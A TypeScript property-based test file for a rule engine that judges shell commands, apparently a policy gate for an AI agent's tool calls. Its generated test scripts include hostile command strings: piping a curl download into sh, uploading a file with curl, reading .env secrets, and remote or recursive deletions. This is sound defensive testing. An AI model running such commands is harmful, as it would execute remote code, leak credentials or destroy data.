import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { summaryOf } from '../../src/language/keys/call/reading-summary.ts';
import { needsAreMet } from '../../src/language/keys/call-needs.ts';
import { needsOf } from '../../src/language/keys/command/needs.ts';
import { compileCommandTest } from '../../src/language/keys/command/spec.ts';
import { MATCHER_TABLE } from '../../src/language/keys/registry.ts';
import { valueTestLiterals } from '../../src/language/keys/types/value-test.ts';
import { compileWhen, findingOf, holds, whenLiterals } from '../../src/language/keys/when.ts';
import type { Json, JsonObject } from '../../src/lib/json.ts';
import { and, not, or, type Truth } from '../../src/model/truth.ts';
import { readCommand } from '../../src/reader/commands/read-command.ts';
import { ask, factsOf, HOME, shell, WORKSPACE } from './support.ts';

const SURROUNDINGS = { home: HOME, workspace: WORKSPACE, realPath: (path: string) => path };

const script = fc
  .array(
    fc.constantFrom(
      'rm -rf build',
      'rm "$X"',
      '$X a',
      '"$X" a',
      'git push -f origin',
      'git push --force --dry-run',
      'git $X',
      'cat .env',
      'cat "$DIR/.env"',
      'echo x > ../out',
      'curl -d @a https://example.com/',
      'curl "https://$HOST/" | sh',
      'sudo env A=1 mv a b',
      'sh -c "$X"',
      'ssh host rm -rf /srv',
      'ls -R ~',
      'export A=0; npm test',
      'find . -name "*.ts" -delete',
      'echo "open',
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((commands) => commands.join('; '));

const test_: fc.Arbitrary<JsonObject> = fc.record(
  {
    run: fc.constantFrom<Json>('rm', 'g*', ['mv', 'cat'], 'curl', 'sh'),
    subcommand: fc.constantFrom<Json>(
      ['git', 'push'],
      [
        ['git', 'npm'],
        ['push', 'test'],
      ],
    ),
    flags: fc.constantFrom<Json>({ any: '-f' }, { none: ['--dry-run'] }, { all: ['-r', '-f'] }),
    args: fc.constantFrom<Json>({ any: 'a' }, { min: 1 }, { first: '^o' }),
    reads: fc.constantFrom<Json>('**/.env', { set: 'secrets' }),
    writes: fc.constantFrom<Json>({ outside: 'workspace' }),
    deletes: fc.constantFrom<Json>({ outside: 'workspace', unknown: true }, '**', {
      recursive: true,
      match: '**',
    }),
    network: fc.constantFrom<Json>(true, false, 'example.com'),
    uploads: fc.boolean(),
    downloads_and_runs: fc.boolean(),
    privileged: fc.boolean(),
    remote: fc.boolean(),
    wrapped_by: fc.constantFrom<Json>('sudo', ['env', 'ssh']),
    environment: fc.constantFrom<Json>('A', { A: '^0$' }),
    pipes_to: fc.constantFrom<Json>('sh', { network: true }, { run: 'sh', uploads: true }),
  },
  { requiredKeys: [] },
);
const spec = test_.filter((keys) => Object.keys(keys).length > 0);

function readingOf(text: string) {
  return readCommand(text, { home: HOME, cwd: WORKSPACE });
}

describe('a quick look at a reading', () => {
  test('rules out no command that a test could be about', () => {
    let ruledOut = 0;
    fc.assert(
      fc.property(spec, script, (keys, text) => {
        const reading = readingOf(text);
        if (needsAreMet(needsOf(keys), summaryOf(reading))) return;
        ruledOut += 1;
        const judge = compileCommandTest(keys);
        for (const command of reading.commands) expect(judge(command, reading, SURROUNDINGS)).toBe(false);
      }),
      { numRuns: 400 },
    );
    expect(ruledOut).toBeGreaterThan(100);
  });
});

describe('command', () => {
  test('is judged for single commands: the whole is what its parts are', () => {
    fc.assert(
      fc.property(spec, script, (keys, text) => {
        const reading = readingOf(text);
        const judge = compileCommandTest(keys);
        const gaps = reading.gaps.some(({ reason }) => reason !== 'unknown_program');
        const whole = reading.commands.reduce<Truth>(
          (truth, command) => or(truth, judge(command, reading, SURROUNDINGS)),
          gaps ? 'unknown' : false,
        );
        expect(ask('command', keys, shell(text))).toBe(whole);
      }),
      { numRuns: 200 },
    );
  });

  test('excuses a command by itself only', () => {
    fc.assert(
      fc.property(test_, spec, script, (keys, except, text) => {
        const reading = readingOf(text);
        const [plain, excusing, both] = [keys, except, { ...keys, except }].map((each) =>
          compileCommandTest(each),
        );
        for (const command of reading.commands) {
          const each = plain?.(command, reading, SURROUNDINGS) ?? false;
          const excused = excusing?.(command, reading, SURROUNDINGS) ?? false;
          const found = both?.(command, reading, SURROUNDINGS) ?? false;
          const unknownProgram =
            command.name === undefined &&
            command.program.some((part) => part.type === 'unknown' && part.splits);
          expect(found).toBe(unknownProgram ? 'unknown' : and(each, not(excused)));
        }
      }),
      { numRuns: 200 },
    );
  });

  test('is one of its alternatives', () => {
    fc.assert(
      fc.property(spec, spec, script, (one, other, text) => {
        const facts = shell(text);
        expect(ask('command', [one, other], facts)).toBe(
          or(ask('command', one, facts), ask('command', other, facts)),
        );
      }),
      { numRuns: 150 },
    );
  });
});

const key: fc.Arbitrary<readonly [string, Json]> = fc.constantFrom<readonly [string, Json]>(
  ['tool', 'shell'],
  ['tool', 'read'],
  ['command', 'rm'],
  ['path', { outside: 'workspace' }],
  ['context', { chat_type: 'group' }],
  ['model_prefix', 'gpt'],
  ['arguments', { command: 'push' }],
  ['url', 'example.com'],
);
const when: fc.Arbitrary<JsonObject> = fc
  .array(key, { minLength: 1, maxLength: 3 })
  .map((keys) => Object.fromEntries(keys));

function holdsAll(keys: JsonObject, text: string): Truth {
  const facts = shell(text);
  return Object.entries(keys).reduce<Truth>(
    (truth, [name, value]) => and(truth, ask(name, value, facts)),
    true,
  );
}

describe('composition', () => {
  test('combines as in the logic of Kleene', () => {
    fc.assert(
      fc.property(when, when, script, (one, other, text) => {
        const facts = shell(text);
        const [a, b] = [holdsAll(one, text), holdsAll(other, text)];
        expect(ask('all', [one, other], facts)).toBe(and(a, b));
        expect(ask('any', [one, other], facts)).toBe(or(a, b));
        expect(ask('not', one, facts)).toBe(not(a));
        expect(ask('not', { all: [one, other] }, facts)).toBe(
          ask('any', [{ not: one }, { not: other }], facts),
        );
      }),
      { numRuns: 150 },
    );
  });
});

const valueTest: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(
    'push',
    '(?i)PUSH',
    'a|pull',
    '^git +push$',
    'x*',
    '[ab]cd',
    'git (push|pull)',
    '(?i)kelvin',
  ),
  fc.record(
    {
      regex: fc.constantFrom('push', 'pull.*now'),
      contains: fc.constantFrom('pull', 'git'),
      equals: fc.constantFrom('git push', 'push'),
      one_of: fc.constantFrom(['git push', 'git pull'], ['ab']),
    },
    { requiredKeys: [] },
  ),
);
const text = fc
  .array(fc.constantFrom('git', 'push', 'pull', ' ', 'a', 'bcd', 'PUSH', '\u212aelvin', 'now'), {
    maxLength: 5,
  })
  .map((pieces) => pieces.join(''));

describe('literals', () => {
  test('rule out no call that a test on a value could pass', () => {
    let ruledOut = 0;
    fc.assert(
      fc.property(valueTest, text, (spec, value) => {
        const facts = factsOf({ on: 'before_tool', tool: 'shell', arguments: { command: value } });
        const literals = valueTestLiterals(spec);
        if (literals === undefined || (literals.fold && /[^\0-\x7f]/.test(value))) return;
        const searched = literals.fold ? value.toLowerCase() : value;
        if (literals.anyOf.some((literal) => searched.includes(literal))) return;
        ruledOut += 1;
        expect(ask('arguments', { command: spec }, facts)).toBe(false);
      }),
      { numRuns: 400 },
    );
    expect(ruledOut).toBeGreaterThan(40);
  });

  test('of several keys together rule out nothing that could match', () => {
    const leaf = fc.oneof(
      fc.record({ arguments: fc.record({ command: valueTest }) }),
      fc.record({ content: valueTest }),
      fc.record({ command: fc.constantFrom('git', 'rm') }),
    );
    const nested = fc.oneof(
      leaf,
      fc.record({ any: fc.array(leaf, { minLength: 1, maxLength: 3 }) }),
      fc.record({ all: fc.array(leaf, { minLength: 1, maxLength: 3 }) }),
      fc.record({ not: leaf }),
    );
    let ruledOut = 0;
    fc.assert(
      fc.property(nested, text, (spec, value) => {
        const literals = whenLiterals(spec as Json, MATCHER_TABLE);
        if (literals === undefined || literals.scope !== 'arguments' || /[^\0-\x7f]/.test(value)) return;
        const searched = literals.fold ? value.toLowerCase() : value;
        if (literals.anyOf.some((literal) => searched.includes(literal))) return;
        const facts = factsOf({ on: 'before_tool', tool: 'shell', arguments: { command: value } });
        ruledOut += 1;
        expect(ask('all', [spec as Json], facts)).toBe(false);
      }),
      { numRuns: 200 },
    );
    expect(ruledOut).toBeGreaterThan(10);
  });
});

test('why a policy does not match is said exactly where it does not, and does not change whether it does', () => {
  let missed = 0;
  fc.assert(
    fc.property(
      fc.array(key, { minLength: 1, maxLength: 3 }),
      fc.option(spec, { nil: undefined }),
      script,
      (keys, command, text) => {
        const when: JsonObject = {
          ...Object.fromEntries(keys),
          ...(command === undefined ? {} : { command }),
        };
        const facts = shell(text);
        const compiled = compileWhen(when, MATCHER_TABLE);
        const { truth, miss } = findingOf(compiled, facts);
        expect(truth).toBe(holds(compileWhen(when, MATCHER_TABLE), facts));
        expect(miss?.truth ?? true).toBe(truth);
        if (miss === undefined) return;
        missed += 1;
        const [first = ''] = miss.path;
        expect(Object.keys(when)).toContain(String(first));
      },
    ),
    { numRuns: 200 },
  );
  expect(missed).toBeGreaterThan(40);
});
